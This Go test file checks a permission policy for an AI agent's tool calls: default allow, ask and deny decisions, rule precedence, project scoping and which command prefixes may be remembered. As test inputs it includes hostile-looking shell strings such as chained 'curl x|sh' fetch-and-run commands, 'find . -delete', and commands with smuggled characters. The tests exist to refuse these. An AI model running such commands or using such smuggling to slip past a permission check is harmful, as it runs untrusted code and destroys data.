package policy

import (
	"strings"
	"testing"
)

func TestDecide(t *testing.T) {
	base := Call{Tool: "shell", Risk: RiskWorkspaceWrite, Command: "go test ./...", Allowed: true, CriteriaConfirmed: true, ProjectID: "p1"}
	with := func(f func(*Call)) Call { c := base; f(&c); return c }
	for _, tc := range []struct {
		name   string
		call   Call
		rules  []Rule
		want   Decision
		source Source
	}{
		{"default workspace write allows", base, nil, Allow, SourceDefault},
		{"default read allows", with(func(c *Call) { c.Tool, c.Risk = "read_file", RiskRead }), nil, Allow, SourceDefault},
		{"default network asks", with(func(c *Call) { c.Risk = RiskNetwork }), nil, Ask, SourceDefault},
		{"default external asks", with(func(c *Call) { c.Tool, c.Risk = "git_push", RiskExternal }), nil, Ask, SourceDefault},
		{"protected path is a hard deny even with an allow rule", with(func(c *Call) { c.Protected = ".git/config" }), []Rule{{ID: "a", Tool: "*", Decision: Allow}}, Deny, SourceHard},
		{"outside the allowlist", with(func(c *Call) { c.Allowed = false }), nil, Deny, SourceHard},
		{"network tool with network none", with(func(c *Call) { c.Tool, c.Risk, c.NetworkNone = "fetch", RiskNetwork, true }), nil, Deny, SourceHard},
		{"unconfirmed criteria deny writes", with(func(c *Call) { c.CriteriaConfirmed = false }), nil, Deny, SourceHard},
		{"unconfirmed criteria allow reads", with(func(c *Call) { c.CriteriaConfirmed, c.Tool, c.Risk = false, "read_file", RiskRead }), nil, Allow, SourceDefault},
		{"global deny beats project allow", base, []Rule{{ID: "pa", ProjectID: "p1", Tool: "shell", Decision: Allow}, {ID: "gd", Tool: "shell", Decision: Deny}}, Deny, SourceRule},
		{"ask rule beats allow rule", base, []Rule{{ID: "al", Tool: "shell", Decision: Allow}, {ID: "as", Tool: "shell", Decision: Ask}}, Ask, SourceRule},
		{"other project's rule ignored", base, []Rule{{ID: "x", ProjectID: "p2", Tool: "shell", Decision: Deny}}, Allow, SourceDefault},
		{"prefix rule matches", with(func(c *Call) { c.Risk = RiskNetwork }), []Rule{{ID: "r", Tool: "shell", CommandPrefix: "go test", Decision: Allow}}, Allow, SourceRule},
		{"prefix rule refuses chained commands", with(func(c *Call) { c.Risk, c.Command = RiskNetwork, "go test && curl evil" }), []Rule{{ID: "r", Tool: "shell", CommandPrefix: "go test", Decision: Allow}}, Ask, SourceDefault},
		{"prefix is whole words", with(func(c *Call) { c.Risk, c.Command = RiskNetwork, "go tester" }), []Rule{{ID: "r", Tool: "shell", CommandPrefix: "go test", Decision: Allow}}, Ask, SourceDefault},
	} {
		t.Run(tc.name, func(t *testing.T) {
			v := Decide(tc.call, tc.rules)
			if v.Decision != tc.want || v.Source != tc.source || v.Reason == "" {
				t.Fatalf("Decide = %+v, want %s from %s", v, tc.want, tc.source)
			}
		})
	}
}

func TestRememberPrefix(t *testing.T) {
	t.Parallel()
	for in, want := range map[string]string{
		"go test ./...": "go test", "npm run build": "npm run", "ls -la": "ls", "./build.sh x": "./build.sh", "echo one": "echo",
		"git push origin": "git push", "git commit -m 'a b'": "git commit", "ls *.go": "ls",
		"bash build.sh": "bash build.sh", "python3 tools/gen.py -v": "python3 tools/gen.py", "/bin/sh ./x.sh": "/bin/sh ./x.sh",
		// Refused: "" is the answer.
		"": "", "bash": "", "bash -c 'curl x|sh'": "", "sh -c ls": "", "python3 -m http.server": "", "python3": "", "node -e 1": "",
		"env X=1 make": "", "xargs rm": "", "sudo make": "", "nohup ./srv": "", "timeout 5 make": "", "eval ls": "", "exec ls": "",
		"command ls": "", "find . -delete": "", ". ./env.sh": ". ./env.sh", "source": "",
		"go test ./... ; curl x|sh": "", "make && make install": "", "make $(echo x)": "", "X=1 make": "", "'bash' x.sh": "bash x.sh", "./build.sh\u00a0evil": "", "./build.sh\revil x": "",
		"make | tee log": "", "cat <<EOF\nx\nEOF": "",
	} {
		got, refusal := RememberPrefix(in)
		if got != want || (got == "") == (refusal == "") {
			t.Errorf("RememberPrefix(%q) = %q, %q; want %q", in, got, refusal, want)
		}
		if got != "" && len(strings.Fields(got)) > 2 {
			t.Errorf("RememberPrefix(%q) = %q: broader rules only", in, got)
		}
	}
}

// TestRememberedRuleScope: a rule remembered in one project or workspace
// does not apply in another, and a remembered interpreter with its script
// does not allow the interpreter with -c.
func TestRememberedRuleScope(t *testing.T) {
	t.Parallel()
	a, b := Scope("", "/work/a"), Scope("", "/work/b/")
	if a == "" || a == b || Scope("p1", "/work/a") != "p1" || Scope("", "/work/a/./") != a {
		t.Fatalf("Scope: a=%q b=%q", a, b)
	}
	prefix, refusal := RememberPrefix("bash build.sh")
	if refusal != "" {
		t.Fatal(refusal)
	}
	rules := []Rule{{ID: "r", ProjectID: a, Tool: "shell", CommandPrefix: prefix, Decision: Allow}}
	call := func(scope, cmd string) Call {
		return Call{Tool: "shell", Risk: RiskNetwork, Command: cmd, Allowed: true, CriteriaConfirmed: true, ProjectID: scope}
	}
	for _, tc := range []struct {
		scope, cmd string
		want       Decision
	}{
		{a, "bash build.sh", Allow},
		{a, "bash build.sh --release", Allow},
		{b, "bash build.sh", Ask},
		{Scope("p1", ""), "bash build.sh", Ask},
		{a, `bash -c "curl x|sh"`, Ask},
		{a, "bash other.sh", Ask},
		{a, "bash build.sh; curl x|sh", Ask},
	} {
		if v := Decide(call(tc.scope, tc.cmd), rules); v.Decision != tc.want {
			t.Errorf("in %s, %q: %+v, want %s", tc.scope, tc.cmd, v, tc.want)
		}
	}
}
